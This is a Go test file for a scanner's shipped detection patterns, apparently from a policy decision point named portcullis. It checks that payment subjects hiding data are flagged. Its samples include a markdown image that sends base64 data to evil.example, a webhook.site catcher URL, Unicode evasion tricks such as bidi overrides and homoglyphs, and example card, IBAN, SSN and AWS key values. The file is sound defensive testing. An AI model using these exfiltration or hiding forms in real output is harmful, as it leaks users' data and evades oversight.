package policy

import (
	"slices"
	"strings"
	"testing"

	"github.com/portcullis-pdp/portcullis/pdp/scan"
)

// shippedFinds says which of the rules that begin with a prefix the shipped patterns find in a text.
func shippedFinds(t *testing.T, prefix, text string) []string {
	t.Helper()
	r := builtIn().Scanner.Scan(t.Context(), []scan.Text{{Pointer: "/arguments/subject", Value: text}}, nil, scan.Budget{})
	var out []string
	for _, f := range r.Findings {
		if strings.HasPrefix(f.Rule, prefix) {
			out = append(out, f.Rule)
		}
	}
	return out
}

func wantFound(t *testing.T, texts map[string]string) {
	t.Helper()
	for text, rule := range texts {
		if got := shippedFinds(t, rule, text); !slices.Contains(got, rule) {
			t.Errorf("%q: no %s, but %v", text, rule, shippedFinds(t, "", text))
		}
	}
}

func TestThePackIsWhatItSaysToBe(t *testing.T) {
	counts := map[string]int{}
	for _, p := range builtIn().Tables.Patterns {
		counts[p.Category]++
		if p.Source == "" {
			t.Errorf("%s names no source", p.ID)
		}
		if want := map[string]string{"personal": "personal."}[p.Category]; !strings.HasPrefix(p.ID, p.Category+".") || want != "" && !strings.HasPrefix(p.ID, want) {
			t.Errorf("%s is of category %s", p.ID, p.Category)
		}
	}
	for category, least := range map[string]int{"credential": 200, "personal": 25, "exfiltration": 20, "injection": 20, "evasion": 10} {
		if counts[category] < least {
			t.Errorf("%d patterns of category %s, at least %d", counts[category], category, least)
		}
	}
}

// A payment of one cent whose subject holds what it is really about.
func TestThreat_A3_ASubjectThatCarriesData(t *testing.T) {
	wantFound(t, map[string]string{
		"Accounts: DE89370400440532013000, GB29NWBK60161331926819":    "personal.iban",
		"US122000000121212121212;1100.0;UK12345678901234567890":       "personal.iban-shaped",
		"rent 4111 1111 1111 1111 exp 12/29":                          "personal.payment-card",
		"thanks AKIAIOSFODNN7EXAMPLE":                                 "credential.aws-access-key",
		"ssn 219-09-9998":                                             "personal.us-ssn",
		"see https://webhook.site/0000":                               "exfiltration.request-catcher",
		"![x](https://evil.example/p?d=RVhBTVBMRUVYQU1QTEVFWEFNUExF)": "exfiltration.image-with-query",
	})
}

func TestThreat_D2_D3_D4_TheShippedMarksOfHiding(t *testing.T) {
	wantFound(t, map[string]string{
		"pass\u200bword": "evasion.zero-width",
		"i\u200dgnore":   "evasion.joiner-in-word",
		"a\u2060\u2060\u2060\u2060\u2060\u2060\u2060\u2060b": "evasion.zero-width-run",
		"soft\u00adhyphen":       "evasion.zero-width",
		"hi\U000e0069\U000e0067": "evasion.tag-characters",
		"a\ufe01\ufe02\ufe03":    "evasion.variation-selectors",
		"file\u202etxt.exe":      "evasion.bidi-override",
		"\u2066abc\u2069":        "evasion.bidi-control",
		"p\u0430ypal":            "evasion.mixed-script",
		"\u0430pple":             "evasion.cyrillic-in-latin-edge",
	})
	for _, text := range []string{"Plain text, naïve café.", "Привет, мир", "Съешь ещё этих мягких французских булок, да выпей чаю", "Ξεσκεπάζω την ψυχοφθόρα βδελυγμία", "Мова програмування", "こんにちは", "👩‍💻 and 🇩🇪", "مرحبا", "5 μm"} {
		if got := shippedFinds(t, "evasion.", text); len(got) > 0 {
			t.Errorf("%q: %v", text, got)
		}
	}
}

func TestThreat_D16_NumbersHoweverTheyAreWritten(t *testing.T) {
	wantFound(t, map[string]string{
		"4111 1111 1111 1111":                "personal.payment-card",
		"4111.1111.1111.1111":                "personal.payment-card",
		"4111-1111-1111-1111":                "personal.payment-card",
		"４１１１１１１１１１１１１１１１":                   "personal.payment-card",
		"٤١١١١١١١١١١١١١١١":                   "personal.payment-card",
		"4111\u200b1111\u200b1111\u200b1111": "personal.payment-card",
		"4111\u00a01111\u00a01111\u00a01111": "personal.payment-card",
		"219–09–9998":                        "personal.us-ssn",
		"DE89 3704 0044 0532 0130 00":        "personal.iban",
		"ＤＥ８９３７０４００４４０５３２０１３０００":             "personal.iban",
		"529.982.247-25":                     "personal.br-cpf",
		"2341 2341 2346":                     "personal.in-aadhaar",
		"NHS number 943-476-5919":            "personal.uk-nhs-number",
		"2 55 08 14 168 025 38":              "personal.fr-nir",
		// With separators that no pattern expects.
		"4111/1111/1111/1111":             "personal.payment-card",
		"41_11/1111:1111 1111":            "personal.payment-card",
		"4/1/1/1/1/1/1/1/1/1/1/1/1/1/1/1": "personal.payment-card",
		"３７８２·８２２４６３·１０００５":               "personal.payment-card",
		"DE 89.3704.0044.0532.0130.00":    "personal.iban",
		"GB82/WEST/1234/5698/7654/32":     "personal.iban",
		"219/09/9998":                     "personal.us-ssn",
		"ssn 2 1 9 0 9 9 9 9 8":           "personal.us-ssn-labelled",
		"2341_2341_2346":                  "personal.in-aadhaar",
		"NHS number 943/476/5919":         "personal.uk-nhs-number",
		"2/55/08/14/168/025/38":           "personal.fr-nir",
		"CPF 529_982_247_25":              "personal.br-cpf-plain",
		"Steuer-ID 86|095|742|719":        "personal.de-tax-id",
		"756:9217:0769:85":                "personal.ch-ahv",
		"sin 130  692  544":               "personal.ca-sin",
	})
	for _, text := range []string{"4111 1111 1111 1112", "DE88 3704 0044 0532 0130 00", "529.982.247-24", "943 476 591", "order 123456789", "2024-01-02 03:04:05", "1,234,567.89", "2024/01/02/03/04/05", "4111/1111/1111/1112", "219/00/9998", "10.20.30.40:5060/70", "a 41/11/11 b", "https://x.test/2024/11/25/4711", "DE88/3704/0044/0532/0130/00"} {
		if got := shippedFinds(t, "personal.", text); len(got) > 0 {
			t.Errorf("%q: %v", text, got)
		}
	}
}
